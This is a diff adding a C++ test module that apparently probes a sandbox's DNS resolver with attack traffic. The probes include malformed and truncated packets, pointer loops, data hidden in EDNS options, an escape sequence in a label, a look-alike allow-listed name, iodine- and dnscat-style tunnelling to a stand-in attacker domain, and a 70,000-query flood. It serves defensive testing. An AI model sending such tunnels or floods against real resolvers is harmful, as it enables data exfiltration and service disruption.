@@ -1,0 +1,248 @@
+// SPDX-License-Identifier: Apache-2.0
+// Messages to the resolver as no stub sends them, and tunnels as iodine and dnscat build them.
+#include <array>
+#include <cerrno>
+#include <poll.h>
+#include <unistd.h>
+
+#include "attacks/io.hpp"
+#include "wire/dns_bytes.hpp"
+#include "wire/wire.hpp"
+
+namespace agentbox::wire {
+namespace {
+
+constexpr int k_wait_ms = 700;
+
+int resolver_socket(int type) {
+  const int fd = socket(AF_INET, type | SOCK_CLOEXEC, 0);
+  return attacks::connect_result(fd, attacks::address_of("127.0.0.1", 53), k_wait_ms) == 0 ? fd : -1;
+}
+
+/// No answer and every answer without a record is right: what matters is that nothing is asked outside.
+Finding judge(const std::array<char, 4096>& reply, long count, std::size_t start) {
+  if (count <= 0) {
+    return attacks::finding(Verdict::stopped, count == 0 ? "hung up" : "no answer");
+  }
+  if (count < static_cast<long>(start) + 12) {
+    return attacks::finding(Verdict::unclear, "a cut answer");
+  }
+  const int records = reply[start + 7] + reply[start + 6] * 256;
+  constexpr std::array k_codes = {"NOERROR", "FORMERR", "SERVFAIL", "NXDOMAIN", "NOTIMP", "REFUSED"};
+  const auto code = static_cast<std::size_t>(reply[start + 3] & 0x0F);
+  return attacks::finding(records > 0 ? Verdict::through : Verdict::stopped,
+                          code < k_codes.size() ? k_codes[code] : "?");
+}
+
+Finding ask_udp(const std::string& message) {
+  const int fd = resolver_socket(SOCK_DGRAM);
+  if (fd < 0 || send(fd, message.data(), message.size(), MSG_NOSIGNAL) < 0) {
+    return attacks::refused_with(-1, {ECONNREFUSED, EMSGSIZE});
+  }
+  std::array<char, 4096> reply{};
+  const long count = attacks::read_within(fd, reply.data(), reply.size(), k_wait_ms);
+  close(fd);
+  return judge(reply, count, 0);
+}
+
+Finding ask_tcp(const std::string& bytes) {
+  const int fd = resolver_socket(SOCK_STREAM);
+  if (fd < 0 || send(fd, bytes.data(), bytes.size(), MSG_NOSIGNAL) < 0) {
+    return attacks::refused_with(-1, {ECONNREFUSED, EPIPE, ECONNRESET});
+  }
+  std::array<char, 4096> reply{};
+  const long count = attacks::read_within(fd, reply.data(), reply.size(), k_wait_ms);
+  close(fd);
+  return judge(reply, count, 2);
+}
+
+std::string name_of(std::string_view attack) {
+  return std::string(attack) + ".attack.example";
+}
+
+std::string sized(const std::string& message) {
+  std::string bytes;
+  put16(bytes, static_cast<unsigned>(message.size()));
+  return bytes + message;
+}
+
+Finding two_questions(const Expected&) {
+  return ask_udp(dns_header(0x0100, 2) + dns_question("gate.agentbox.internal", 16) +
+                 dns_question(name_of("dns-two-questions"), 1));
+}
+
+Finding pointer_loop(const Expected&) {
+  using namespace std::string_literals;
+  return ask_udp(dns_header(0x0100, 1) + "\xc0\x0c\0\1\0\1"s);
+}
+
+Finding pointer_to_tail(const Expected&) {
+  using namespace std::string_literals;
+  return ask_udp(dns_header(0x0100, 1) + "\xc0\x12\0\1\0\1"s + dns_name(name_of("dns-pointer")));
+}
+
+Finding options_carry_data(const Expected&) {
+  using namespace std::string_literals;
+  std::string message = dns_header(0x0100, 1, 0, 1) + dns_question(name_of("dns-edns-data"), 1);
+  const std::string data = marker("dns-edns-data");
+  message += "\0\0\x29\x10\0\0\0\0\0"s;
+  put16(message, static_cast<unsigned>(data.size() + 4));
+  put16(message, 0xFDE9); // an option for private use
+  put16(message, static_cast<unsigned>(data.size()));
+  return ask_udp(message + data);
+}
+
+Finding answer_instead_of_question(const Expected&) {
+  return ask_udp(dns_header(0x8180, 1, 1) + dns_question(name_of("dns-answer"), 1) + "\xc0\x0c");
+}
+
+template <unsigned opcode>
+Finding with_opcode(const Expected&) {
+  return ask_udp(dns_header(0x0100U | (opcode << 11U), 1) + dns_question(name_of("dns-opcode"), 6));
+}
+
+Finding long_name(const Expected&) {
+  std::string name;
+  for (int i = 0; i < 8; ++i) {
+    name += std::string(60, 'a') + ".";
+  }
+  return ask_udp(dns_query(name + name_of("dns-long-name"), 1));
+}
+
+Finding long_label(const Expected&) {
+  return ask_udp(dns_query(std::string(63, 'x') + "." + std::string(200, 'y') + "." + name_of("dns-long-label"), 1));
+}
+
+Finding bytes_in_label(const Expected&) {
+  return ask_udp(dns_query("\x1b]52;c;\x07\xff." + name_of("dns-binary-label"), 1));
+}
+
+Finding dot_in_label(const Expected&) {
+  using namespace std::string_literals;
+  // One label "evil.allowed" before "example": a name that reads like a listed one.
+  return ask_udp(dns_header(0x0100, 1) +
+                 "\x0c"
+                 "evil.allowed"s +
+                 dns_name("example") + "\0\1\0\1"s);
+}
+
+Finding cut_short(const Expected&) {
+  const std::string whole = dns_query(name_of("dns-cut"), 1);
+  for (std::size_t length = 1; length < whole.size(); length += 3) {
+    const int fd = resolver_socket(SOCK_DGRAM);
+    send(fd, whole.data(), length, MSG_NOSIGNAL);
+    close(fd);
+  }
+  return ask_udp(whole.substr(0, 11));
+}
+
+Finding large_datagram(const Expected&) {
+  return ask_udp(dns_query(name_of("dns-large"), 1) + std::string(30000, 'z'));
+}
+
+Finding tcp_many(const Expected&) {
+  std::string bytes;
+  for (int i = 0; i < 100; ++i) {
+    bytes += sized(dns_query("x" + std::to_string(i) + "." + name_of("dns-tcp-many"), 1));
+  }
+  return ask_tcp(bytes);
+}
+
+Finding tcp_lying_length(const Expected&) {
+  using namespace std::string_literals;
+  return ask_tcp("\xff\xff"s + dns_query(name_of("dns-tcp-length"), 1));
+}
+
+/// iodine: data in base32 labels, answers in NULL or TXT records; here 300 queries without a pause.
+template <unsigned type>
+Finding tunnel(const Expected&) {
+  const int fd = resolver_socket(SOCK_DGRAM);
+  std::array<char, 4096> reply{};
+  for (int i = 0; i < 300; ++i) {
+    const std::string query = dns_query(
+        "z" + std::to_string(i) + "abcdefghijklmnopqrstuvwxyz234567abcdefghijklmn.t." + name_of("dns-tunnel"), type);
+    if (send(fd, query.data(), query.size(), MSG_NOSIGNAL) < 0) {
+      return attacks::refused_with(-1, {ECONNREFUSED});
+    }
+    const long count = attacks::read_within(fd, reply.data(), reply.size(), k_wait_ms);
+    if (count > 7 && reply[7] != 0) {
+      return attacks::finding(Verdict::through, "a record");
+    }
+  }
+  close(fd);
+  return attacks::finding(Verdict::stopped, "300 queries, no record");
+}
+
+/// 70,000 names under one listed wildcard, asked as fast as they are answered. A listed name still works afterwards.
+Finding seventy_thousand_names(const Expected& expected) {
+  if (!expected.filtered) {
+    return attacks::finding(Verdict::skipped, "full network");
+  }
+  const int fd = resolver_socket(SOCK_DGRAM);
+  std::array<char, 4096> reply{};
+  int sent = 0;
+  int answered = 0;
+  while (answered < 70000) {
+    while (sent < 70000 && sent - answered < 64) {
+      const std::string query = dns_query("n" + std::to_string(sent++) + ".wild.example", 1);
+      send(fd, query.data(), query.size(), MSG_NOSIGNAL);
+    }
+    if (attacks::read_within(fd, reply.data(), reply.size(), k_wait_ms) <= 0) {
+      sent = answered; // the kernel dropped some: ask them again
+      if (++answered > 70000) {
+        break;
+      }
+      continue;
+    }
+    ++answered;
+  }
+  close(fd);
+  return resolve("allowed.example").empty() ? attacks::finding(Verdict::broken, "the resolver is overwhelmed")
+                                            : attacks::finding(Verdict::works, "70,000 names, and then a listed one");
+}
+
+constexpr const char* k_family = "dns";
+constexpr const char* k_wall = "resolver";
+const std::array k_attacks = {
+    Attack{"twin-listed-name", k_family, "ask for a listed name", "allowed",
+           [](const Expected&) {
+             return resolve("allowed.example").empty() ? attacks::finding(Verdict::broken, "no address")
+                                                       : attacks::finding(Verdict::works, "an address");
+           }},
+    Attack{"twin-wildcard", k_family, "ask for a name under a listed wildcard", "allowed",
+           [](const Expected& expected) {
+             const bool good = !expected.filtered || !resolve("a.wild.example").empty();
+             return attacks::finding(good ? Verdict::works : Verdict::broken, good ? "an address" : "no address");
+           }},
+    Attack{"dns-wildcard-apex", k_family, "ask for the wildcard's own name", k_wall,
+           [](const Expected&) { return ask_udp(dns_query("wild.example", 1)); }},
+    Attack{"dns-two-questions", k_family, "ask two questions at once", k_wall, two_questions},
+    Attack{"dns-pointer-loop", k_family, "send a name that points at itself", k_wall, pointer_loop},
+    Attack{"dns-pointer", k_family, "hide the name behind a pointer", k_wall, pointer_to_tail},
+    Attack{"dns-edns-data", k_family, "carry data in an EDNS option", k_wall, options_carry_data},
+    Attack{"dns-answer", k_family, "send an answer", k_wall, answer_instead_of_question},
+    Attack{"dns-update", k_family, "send an UPDATE", k_wall, with_opcode<5>},
+    Attack{"dns-notify", k_family, "send a NOTIFY", k_wall, with_opcode<4>},
+    Attack{"dns-status", k_family, "send a STATUS", k_wall, with_opcode<2>},
+    Attack{"dns-long-name", k_family, "ask for a name of 500 bytes", k_wall, long_name},
+    Attack{"dns-long-label", k_family, "ask with a label of 200 bytes", k_wall, long_label},
+    Attack{"dns-binary-label", k_family, "ask with escape sequences in a label", k_wall, bytes_in_label},
+    Attack{"dns-dot-in-label", k_family, "ask with a dot within a label", k_wall, dot_in_label},
+    Attack{"dns-cut", k_family, "send messages cut short", k_wall, cut_short},
+    Attack{"dns-large", k_family, "send 30,000 bytes", k_wall, large_datagram},
+    Attack{"dns-tcp-many", k_family, "send 100 questions in one go (TCP)", k_wall, tcp_many},
+    Attack{"dns-tcp-length", k_family, "give a TCP message a wrong length", k_wall, tcp_lying_length},
+    Attack{"dns-tunnel-null", k_family, "run an iodine-like tunnel (NULL)", k_wall, tunnel<10>},
+    Attack{"dns-tunnel-txt", k_family, "run a dnscat-like tunnel (TXT)", k_wall, tunnel<16>},
+    Attack{"dns-tunnel-cname", k_family, "run a dnscat-like tunnel (CNAME)", k_wall, tunnel<5>},
+    Attack{"dns-tunnel-mx", k_family, "run a dnscat-like tunnel (MX)", k_wall, tunnel<15>},
+    Attack{"twin-70000-names", k_family, "ask for 70,000 names under a wildcard", "allowed", seventy_thousand_names},
+};
+
+} // namespace
+
+std::span<const Attack> dns_attacks() {
+  return k_attacks;
+}
+
+} // namespace agentbox::wire
